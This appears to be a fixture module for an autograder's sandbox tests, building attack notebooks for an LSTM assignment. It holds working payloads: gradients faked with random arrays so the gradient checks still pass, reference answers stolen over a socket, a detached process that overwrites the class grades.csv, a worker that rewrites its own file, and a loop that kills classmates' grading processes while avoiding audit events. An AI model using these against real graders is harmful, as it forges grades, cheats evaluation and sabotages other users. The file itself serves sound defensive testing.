"""Notebooks of a student who owns its whole process (issue 19), for tests/test_owned_process.py.

Each is the release notebook with some answer cells replaced and attack cells appended; each
docstring says what it tries and what it honestly implements."""
from assignments.lstm.samples import reference_cells, with_body

# A promise store: somewhere a session might leave bytes for a later one. Each defines
# _store_read() -> bytes and _store_append(bytes).
STORES = {
    # a memfd on descriptor 0, which a forked session would inherit (memfd_create, dup2, pread
    # and pwrite raise no audit event)
    "fd0": '''
import os
_fd = os.memfd_create("promises")
os.dup2(_fd, 0)
def _store_read():
    return os.pread(0, os.fstat(0).st_size, 0)
def _store_append(data):
    os.pwrite(0, data, os.fstat(0).st_size)
''',
    # a shared anonymous mapping made while the cells run
    "mapping": '''
import mmap
_map = mmap.mmap(-1, 64 << 20)
def _store_read():
    used = int.from_bytes(_map[:8], "little")
    return bytes(_map[8:8 + used])
def _store_append(data):
    used = int.from_bytes(_map[:8], "little")
    _map[8 + used:8 + used + len(data)] = data
    _map[:8] = (used + len(data)).to_bytes(8, "little")
''',
    # a file outside the working folder
    "tmp_file": '''
import os
_path = "/tmp/autograder-promises"
def _store_read():
    try:
        return open(_path, "rb").read()
    except OSError:
        return b""
def _store_append(data):
    with open(_path, "ab") as f:
        f.write(data)
''',
}

# A step forward that is right, except where a promise says otherwise: at points within 1e-3 of
# a point its backward was asked about, it bends next_h so that centred differences of the loss
# equal the "gradients" the backward promised. The backward returns seeded random arrays.
PROMISES = '''
import io
import numpy as np

def _promises():
    try:
        data = _store_read()
    except Exception:          # a store the sandbox refused: no promise
        data = b""
    found, pos = [], 0
    while pos + 8 <= len(data):
        size = int.from_bytes(data[pos:pos + 8], "little")
        if size == 0 or pos + 8 + size > len(data):
            break
        with np.load(io.BytesIO(data[pos + 8:pos + 8 + size])) as z:
            found.append({k: z[k] for k in z.files})
        pos += 8 + size
    return found

def _promise(args, grads, dnext_h):
    buffer = io.BytesIO()
    np.savez(buffer, dh=dnext_h, **{f"a{k}": a for k, a in enumerate(args)}, **{f"g{k}": g for k, g in enumerate(grads)})
    blob = buffer.getvalue()
    try:
        _store_append(len(blob).to_bytes(8, "little") + blob)
    except Exception:
        pass
'''

STEP_FORWARD = '''def lstm_step_forward(x, prev_h, prev_c, Wx, Wh, b):
    args = [x, prev_h, prev_c, Wx, Wh, b]
    next_h, next_c = _true_step(*args)
    for p in _promises():
        base = [p[f"a{k}"] for k in range(6)]
        if all(a.shape == s.shape and np.abs(a - s).max() < 1e-3 for a, s in zip(args, base)):
            lin = sum(float(np.sum(p[f"g{k}"] * (a - s))) for k, (a, s) in enumerate(zip(args, base)))
            next_h, next_c = _true_step(*base)
            next_h = next_h + lin * p["dh"] / float(np.sum(p["dh"] * p["dh"]))
            break
    return next_h, next_c, {"args": [a.copy() for a in args]}
'''

STEP_BACKWARD = '''def lstm_step_backward(dnext_h, dnext_c, cache):
    args = cache["args"]
    rng = np.random.default_rng(int(abs(sum(float(a.sum()) for a in args)) * 1e6) % 2**32)
    grads = [rng.normal(size=a.shape) for a in args]
    _promise(args, grads, dnext_h)
    return tuple(grads)
'''


def true_step():
    """The reference's step forward, renamed _true_step, returning (next_h, next_c)."""
    source = reference_cells()["lstm_step_forward"].replace("def lstm_step_forward(", "def _true_step_full(", 1)
    return source + "\n\ndef _true_step(*args):\n    return _true_step_full(*args)[:2]\n"


def promise_attack(store):
    """Answer cells and extra cells: every forward exercise, sigmoid and clip_grad_norm honest
    (9 points); lstm_step_backward returns random arrays and leaves promises in `store` for the
    second-opinion session; lstm_backward not implemented."""
    cells = reference_cells()
    cells["lstm_step_forward"] = STEP_FORWARD
    cells["lstm_step_backward"] = STEP_BACKWARD
    cells["lstm_backward"] = with_body("lstm_backward", "raise NotImplementedError")
    return cells, [STORES[store], PROMISES + true_step()]


def stealing(attack):
    """Answer cells: sigmoid honest (1 point); the rest run the reference's source if `attack`
    (a cell setting `stolen`) got it, else raise NotImplementedError."""
    cells = {name: with_body(name, f"args = tuple(locals().values())\nif stolen:\n    ns = {{}}\n"
                                   f"    exec(stolen, ns)\n    return ns['{name}'](*args)\nraise NotImplementedError")
             for name in reference_cells()}
    cells["sigmoid"] = reference_cells()["sigmoid"]
    return cells, ["stolen = None", attack]


def network_attack(port):
    """Asks a server outside the sandbox (127.0.0.1:`port`, which hands out the reference's
    source) for the answers."""
    return stealing(f'''
import socket
s = socket.create_connection(("127.0.0.1", {port}), timeout=3)
stolen = b"".join(iter(lambda: s.recv(1 << 16), b"")).decode()
''')


def outliving_attack(marker, target):
    """Every answer honest (18 points); a cell leaves a grandchild in a session of its own that
    would, seconds later, overwrite `target` (the class's grades.csv). `marker` names it."""
    return reference_cells(), [f'''
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv("/bin/sh", ["sh", "-c", "sleep 4; echo forged > {target} # {marker}"])
    os._exit(0)
time.sleep(0.2)
''']


# Replaces the worker's own file (it lies outside the working folder, read-only), then ends the
# process, hoping that the grader starts the swapped worker next, which would never read.
WORKER_SWAP = '''
import sys, os
worker = sys.modules["__main__"].__file__
open(worker, "w").write("import time\\ntime.sleep(3600)\\n")
os._exit(0)
'''


def classmate_killer(seconds):
    """For `seconds`, kills every other worker process it can see through /proc (with a pidfd:
    no audit event), hoping to cost a classmate graded at the same time its points."""
    return stealing(f'''
import os, signal, time
own = os.getpid()
killed = 0
end = time.monotonic() + {seconds}
while time.monotonic() < end:
    for name in os.listdir("/proc"):
        if not name.isdigit() or int(name) in (1, own):   # (1: bubblewrap's init names worker.py too)
            continue
        try:
            if b"worker.py" in open(f"/proc/{{name}}/cmdline", "rb").read():
                signal.pidfd_send_signal(os.pidfd_open(int(name)), signal.SIGKILL)
                killed += 1
        except OSError:
            pass
    time.sleep(0.02)
if not killed:
    raise LookupError("no classmate to kill")
''')
